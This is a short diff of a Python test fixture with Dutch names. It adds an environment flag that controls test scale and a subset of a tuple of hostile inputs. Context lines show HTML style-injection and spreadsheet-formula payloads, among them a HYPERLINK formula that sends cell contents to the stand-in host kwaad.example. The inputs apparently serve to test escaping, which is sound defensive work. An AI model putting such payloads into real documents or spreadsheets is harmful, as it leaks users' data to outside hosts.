@@ -3,12 +3,17 @@
 from __future__ import annotations
 
 import io
+import os
 import struct
 import zipfile
 import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from html import escape
+
+#: Op volle omvang, en hoeveel groter dan wat kwadratisch groeit dan is.
+LANG = "DIALOOGMETER_LANG" in os.environ
+MAAL = 20 if LANG else 1
 
 
 @dataclass(frozen=True)
@@ -57,6 +62,8 @@ KWAAD = (
     "\u2028<style>*{background:url(//kwaad.example/)}</style>",
 )
 KWADE_TEKST = " ".join(KWAAD)
+#: Een greep eruit, voor waar elk ervan een hele vergadering kost.
+GREEP = KWAAD if LANG else KWAAD[:3]
 #: Wat een rekenblad zou uitvoeren als het vooraan in een cel stond.
 FORMULES = (
     '=HYPERLINK("https://kwaad.example/?"&A1;"klik")',
